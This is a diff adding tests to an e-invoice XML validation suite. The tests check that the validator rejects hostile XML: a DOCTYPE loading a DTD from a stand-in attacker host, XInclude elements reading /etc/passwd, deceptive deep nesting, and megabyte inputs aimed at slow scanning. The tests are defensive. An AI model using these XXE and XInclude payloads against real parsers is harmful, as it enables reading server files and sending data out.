@@ -44,3 +44,21 @@ describe("the e-invoice XML gate", () => {
     expect(plain?.attachments[0]?.filename).toBe("a.xml");
   });
 });
+
+describe("the XML gate against the review's spellings", () => {
+  it.each([
+    ["a DOCTYPE after a processing instruction that mentions a comment", `<?x <!-- ?><!DOCTYPE rsm:CrossIndustryInvoice SYSTEM "http://attacker.example/x.dtd">${CII()}`, "xml_dtd"],
+    ["XInclude bound as a default namespace with a character reference", CII('<include xmlns="http&#58;//www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'), "xml_include"],
+    ["XInclude under another prefix", CII('<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="a.xml"/>'), "xml_include"],
+    ["nesting hidden behind a '/>' inside a quoted attribute", CII(`${'<a x="/>">'.repeat(150)}${"</a>".repeat(150)}`), "xml_too_deep"],
+  ])("refuses %s", (_, xml, reason) => {
+    expect(failure(() => checkCrossIndustryInvoice(xml))).toEqual({ type: "render_failed", reason, stage: "template" });
+  });
+
+  it("reads unclosed comments and tags in one pass: a megabyte of each ends well inside the test's own time limit", () => {
+    // 400 KB of "<!--" held a Worker for 20 s with a lazy regular expression: at a megabyte that scan would take minutes.
+    for (const xml of [`<r>${"<!--".repeat(250_000)}`, `<r>${"<a".repeat(500_000)}`, `<r><a ${'="'.repeat(500_000)}`]) {
+      expect(failure(() => checkCrossIndustryInvoice(xml))).toMatchObject({ type: "render_failed", stage: "template" });
+    }
+  });
+});
